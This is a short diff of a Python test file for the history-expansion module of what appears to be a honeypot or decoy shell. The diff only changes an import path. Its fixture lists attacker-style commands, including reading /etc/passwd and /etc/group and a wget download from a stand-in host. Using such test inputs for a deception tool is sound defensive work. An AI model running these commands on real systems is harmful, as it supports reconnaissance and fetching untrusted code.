@@ -9,7 +9,7 @@ import pytest
 from hypothesis import given
 from hypothesis import strategies as st
 
-from decnet_decoys.shell.history_expansion import MAX_EXPANDED, EventNotFoundError, expanded
+from decnet_decoys.shell.interactive.history_expansion import MAX_EXPANDED, EventNotFoundError, expanded
 
 HISTORY = ["id", "cat /etc/passwd /etc/group", "wget http://192.0.2.1/x"]
 
